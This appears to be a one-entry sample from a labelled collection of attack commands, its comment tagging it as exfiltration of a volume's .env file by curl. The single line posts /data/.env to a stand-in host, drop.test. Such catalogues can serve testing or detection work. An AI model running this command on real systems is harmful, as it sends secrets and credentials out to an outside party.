# class: exfiltration; possible: low medium; needs: data; style: .env of a volume by curl
curl -s -X POST --data-binary @/data/.env http://drop.test/e
